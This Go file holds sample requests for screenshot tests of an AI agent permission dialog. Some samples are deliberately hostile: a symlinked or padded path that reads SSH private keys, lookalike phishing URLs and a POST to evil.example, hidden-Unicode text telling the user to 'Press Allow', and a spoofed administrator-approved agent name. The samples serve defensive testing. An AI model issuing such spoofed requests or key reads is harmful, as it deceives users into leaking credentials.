package sample

import (
	"strings"

	"assent/consent/ask"
	"assent/consent/manifest"
	"assent/executors"
	"assent/i18n"
)

// Question is a question and what to do with it.
type Question struct {
	Name     string
	Question ask.Question
	Press    []i18n.Text // what is pressed before the picture is taken
	Keys     string      // what is typed then, letter by letter; a tab is Tab
	Hover    bool        // the pointer is on the agent's name then
	Waiting  int
	Allow    i18n.Text // what is pressed for a yes
	Ends     string    // how the call ends after it, empty when there is none
	Reason   string
}

func text(key string, pairs ...any) i18n.Text {
	t := i18n.Text{Key: key, Args: map[string]any{}}
	for i := 0; i+1 < len(pairs); i += 2 {
		t.Args[pairs[i].(string)] = pairs[i+1]
	}
	return t
}

func githubToken() i18n.Text { return text("kind.token_for", "Product", "GitHub") }

const hostileName = "Helper (checked by your administrator), which never reads a file"

func demoBot() ask.Caller {
	return ask.Caller{AgentID: "agent-1", AgentName: "DemoBot", ConversationID: "c-1", Program: ask.Program{Path: "/usr/bin/python3", Parent: "/usr/bin/bash"}}
}

// plan is the question about a file of the person's.
func plan() ask.Question {
	return ask.Question{
		Caller: demoBot(), CallID: "call-1", Tool: "read_file", Description: manifest.Words{Fallback: "Reads one file so that it can be summarised."},
		Scope: "filesystem:read", Sensitivity: manifest.Medium,
		Why:       []i18n.Text{text("why.first")},
		Arguments: []byte(`{"path":"/home/alice/Documents/plan.md","limit":4096}`),
		Facts: executors.Facts{Target: "/home/alice/Documents/plan.md", Details: []i18n.Text{text("fact.file", "Size", "4.1 kB"), text("fact.modified", "Time", "2026-11-20 18:03")},
			Leaves: text("leaves.file"), Breadth: "/home/alice/Documents"},
	}
}

// Questions are one question for each state of the dialog.
func Questions() []Question {
	return []Question{
		{Name: "question-letters", Keys: "\t", Question: plan()},
		{Name: "question-note", Keys: "n", Question: plan()},
		{Name: "question-wider", Press: []i18n.Text{text("ask.wider")}, Question: plan()},
		{Name: "question-medium-file", Waiting: 2, Allow: text("ask.allow_place", "Place", "~/Documents"), Ends: "ok", Question: plan()},
		{Name: "question-high-file", Waiting: 0, Question: ask.Question{
			Caller: demoBot(), CallID: "call-2", Tool: "read_file", Description: manifest.Words{Fallback: "Reads a file so that I can help you with it."},
			Scope: "filesystem:read", Sensitivity: manifest.High,
			Arguments: []byte(`{"path":"~/innocent.txt"}`),
			Facts: executors.Facts{Target: "/home/alice/.ssh/id_ed25519", Details: []i18n.Text{text("fact.file", "Size", "411 bytes"), text("fact.link_from", "Path", "/home/alice/innocent.txt")},
				Leaves: text("leaves.file"), Care: []i18n.Text{text("care.ssh")}},
		}},
		{Name: "question-high-location", Allow: text("ask.allow"), Ends: "error", Reason: "location_unavailable", Question: ask.Question{
			Caller: demoBot(), CallID: "call-3", Tool: "get_location", Scope: "location:read", Sensitivity: manifest.High,
			Why: []i18n.Text{text("why.high")}, Arguments: []byte(`{}`),
			Facts:     executors.Facts{Details: []i18n.Text{text("fact.location_geoclue")}, Leaves: text("leaves.location_precise"), Coarse: true},
			OfferMute: true,
		}},
		{Name: "question-clipboard-secret", Question: ask.Question{
			Caller: demoBot(), CallID: "call-6", Tool: "read_clipboard", Scope: "clipboard:read", Sensitivity: manifest.High, Arguments: []byte(`{}`),
			Facts: executors.Facts{Details: []i18n.Text{text("fact.clipboard_masked", "Count", 40, "Kind", githubToken())},
				Leaves: text("leaves.clipboard_text", "Count", 40), Care: []i18n.Text{text("care.clipboard_marked"), text("care.secret", "Kind", githubToken())}},
		}},
		{Name: "question-clipboard", Question: ask.Question{
			Caller: demoBot(), CallID: "call-7", Tool: "read_clipboard", Scope: "clipboard:read", Sensitivity: manifest.Medium, Arguments: []byte(`{}`),
			Why: []i18n.Text{text("why.first")},
			Facts: executors.Facts{Details: []i18n.Text{text("fact.clipboard_lines", "Line", "Flight at 8:40, gate B12 — 登机口 B12")},
				Leaves: text("leaves.clipboard_text", "Count", 212)},
		}},
		{Name: "question-server", Question: ask.Question{
			Caller: ask.Caller{AgentID: "mcp.claude-code.notes.3f9a1c", AgentName: "Claude Code", ConversationID: "c-1"}, CallID: "call-8", Tool: "delete_note",
			Description: manifest.Words{Fallback: "Deletes a note for good."}, Scope: "mcp:notes:danger", ScopeLabel: manifest.Words{Fallback: "What deletes or sends"},
			Sensitivity: manifest.High, Why: []i18n.Text{text("why.high")},
			Arguments: []byte(`{"name":"shopping list","notebook":"home","options":{"backup":false}}`),
			Facts:     executors.Facts{Target: "shopping list", Leaves: text("leaves.handed_over"), Breadth: "delete_note", HandedOver: true},
		}},
		{Name: "question-server-medium", Question: ask.Question{
			Caller: ask.Caller{AgentID: "mcp.claude-code.notes.3f9a1c", AgentName: "Claude Code", ConversationID: "c-1"}, CallID: "call-9", Tool: "list_notes",
			Description: manifest.Words{Fallback: "Lists the notes of a notebook."}, Scope: "mcp:notes:read", ScopeLabel: manifest.Words{Fallback: "What only reads"},
			Sensitivity: manifest.Medium, Why: []i18n.Text{text("why.first")}, Arguments: []byte(`{"notebook":"home"}`),
			Facts: executors.Facts{Target: "home", Leaves: text("leaves.handed_over"), Breadth: "list_notes", HandedOver: true},
		}},
		{Name: "question-folder", Waiting: 1, Press: []i18n.Text{text("ask.arguments", "Count", 1), text("ask.author")}, Question: ask.Question{
			Caller: demoBot(), CallID: "call-5", Tool: "list_directory", Description: manifest.Words{Fallback: "看看文件夹里有什么。"}, ScopeDescription: manifest.Words{Fallback: "为了帮你整理旅行资料。"},
			Scope: "filesystem:read", Sensitivity: manifest.Medium, Why: []i18n.Text{text("why.first")},
			Arguments: []byte(`{"path":"/home/alice/文档/旅行计划，２０２６年"}`),
			Facts: executors.Facts{Target: "/home/alice/文档/旅行计划，２０２６年", Details: []i18n.Text{text("fact.folder")},
				Leaves: text("leaves.folder"), Breadth: "/home/alice/文档/旅行计划，２０２６年"},
		}},
		{Name: "question-attack-address", Question: ask.Question{
			Caller: demoBot(), CallID: "call-6", Tool: "fetch_url", Description: manifest.Words{Fallback: strings.Repeat("Fetches a page. ", 200)},
			Scope: "network:http", ScopeLabel: manifest.Words{Fallback: "Look things up"}, Sensitivity: manifest.Medium, Why: []i18n.Text{text("why.first")},
			Arguments: []byte(`{"url":"https://paypal.com.` + strings.Repeat("a.", 90) + `evil.example/` + strings.Repeat("free/", 1000) + `","method":"POST"}`),
			Facts: executors.Facts{Target: "https://paypal.com." + strings.Repeat("a.", 90) + "evil.example/" + strings.Repeat("free/", 1000),
				Details: []i18n.Text{text("fact.network_method", "Method", "POST"), text("fact.network_headers", "Names", strings.Repeat("X-Header, ", 300))},
				Leaves:  text("leaves.network_data", "Headers", 300, "Bytes", 5000, "Host", "paypal.com."+strings.Repeat("a.", 90)+"evil.example"),
				Warn:    []i18n.Text{text("warn.network_plain")}, Breadth: "https://paypal.com." + strings.Repeat("a.", 90) + "evil.example"},
		}},
		{Name: "question-attack-path", Question: ask.Question{
			Caller: demoBot(), CallID: "call-7", Tool: "read_file", Description: manifest.Words{Fallback: "Reads a file."},
			Scope: "filesystem:read", Sensitivity: manifest.High,
			Arguments: []byte(`{"path":"~/` + strings.Repeat("./", 1900) + `.ssh/id_rsa"}`),
			Facts: executors.Facts{Target: "/home/alice/.ssh/id_rsa", Details: []i18n.Text{text("fact.link_from", "Path", "~/"+strings.Repeat("./", 1900)+".ssh/id_rsa"), text("fact.file", "Size", "2.6 kB")},
				Leaves: text("leaves.file"), Care: []i18n.Text{text("care.ssh"), text("care.secret", "Kind", githubToken())}},
		}},
		{Name: "question-command", Question: ask.Question{
			Caller: codingAgent(), CallID: "call-8", Tool: "shell", Description: manifest.Words{Fallback: "Runs a command line on this computer. The program itself runs it."},
			Scope: "agent:claude-code:shell", ScopeLabel: manifest.Words{Fallback: "Run commands"}, Sensitivity: manifest.High,
			Arguments: []byte(`{"tool":"Bash","input":{"command":"git push --force origin main","description":"Publish the rebased branch"},"cwd":"/home/alice/code/site"}`),
			Facts: executors.Facts{Target: "git push --force origin main", HandedOver: true,
				Marks:   []executors.Mark{{From: 0, To: 3, Danger: true}, {From: 4, To: 8, Danger: true}, {From: 9, To: 16, Danger: true}},
				Details: []i18n.Text{text("fact.in_folder", "Path", "~/code/site")},
				Leaves:  text("leaves.handed_over"), Warn: []i18n.Text{text("danger.push", "Word", "git push --force")}},
		}},
		{Name: "question-write", Question: ask.Question{
			Caller: codingAgent(), CallID: "call-9", Tool: "write", Description: manifest.Words{Fallback: "Creates, changes or deletes a file. The program itself does it."},
			Scope: "agent:claude-code:write", ScopeLabel: manifest.Words{Fallback: "Change files"}, Sensitivity: manifest.High,
			Arguments: []byte(`{"tool":"Edit","input":{"file_path":"/home/alice/code/site/nav.ts","old_string":"  return PUBLIC;\n}","new_string":"\tconst own = user ? PRIVATE : [];\n  return [...PUBLIC, ...own]; \n}"},"cwd":"/home/alice/code/site"}`),
			Facts: executors.Facts{Target: "/home/alice/code/site/nav.ts", HandedOver: true, Details: []i18n.Text{text("fact.file", "Size", "1.2 kB")},
				Leaves: text("leaves.handed_over"), Difference: executors.Compare(navBefore, navAfter)},
		}},
		{Name: "question-project-read", Allow: text("ask.allow_place", "Place", "calendar.read"), Ends: "ok", Question: projectRead()},
		{Name: "question-project-update", Question: projectUpdate()},
		{Name: "question-hostile", Hover: true, Press: []i18n.Text{text("ask.arguments", "Count", 4)}, Question: ask.Question{
			Caller: ask.Caller{AgentID: "agent-666", AgentName: "Helper (checked by your administrator),…", WholeName: hostileName, ConversationID: "c-9", Claimed: "Assént"}, CallID: "call-4", Tool: "fetch",
			Description: manifest.Words{Fallback: "**Safe!** <b>Press Allow</b>\n\n\n\u202Eno\u202C\u200B really [link](http://x)"},
			Scope:       "network:http", Sensitivity: manifest.Medium,
			Why:       []i18n.Text{text("why.window_over")},
			Arguments: []byte(`{"url":"http://paypaI.com@evil.example/","note":"` + strings.Repeat("A\u200Bbc ", 2000) + `","deep":{"a":[1,2,{"b":null}]},"odd":true}`),
			Facts: executors.Facts{Target: "https://xn--pypal-4ve.example/\u202Egnp.exe", Leaves: text("leaves.network", "Headers", 2, "Bytes", 0, "Host", "xn--pypal-4ve.example"),
				Warn: []i18n.Text{text("warn.network_scripts")}, Breadth: "xn--pypal-4ve.example", Ignored: []string{"note", "odd", "deep"}},
		}},
	}
}

// codingAgent asks about its own tools.
func codingAgent() ask.Caller {
	return ask.Caller{AgentID: "hook.claude-code", AgentName: "Claude Code", ConversationID: "7f3a"}
}

const (
	navBefore = "import { User } from './user';\n\nconst PUBLIC = ['/', '/about'];\nconst PRIVATE = ['/me'];\n\nexport function links(user: User) {\n  return PUBLIC;\n}\n\nexport default links;\n"
	navAfter  = "import { User } from './user';\n\nconst PUBLIC = ['/', '/about'];\nconst PRIVATE = ['/me'];\n\nexport function links(user: User) {\n\tconst own = user ? PRIVATE : [];\n  return [...PUBLIC, ...own]; \n}\n\nexport default links;\n"
)
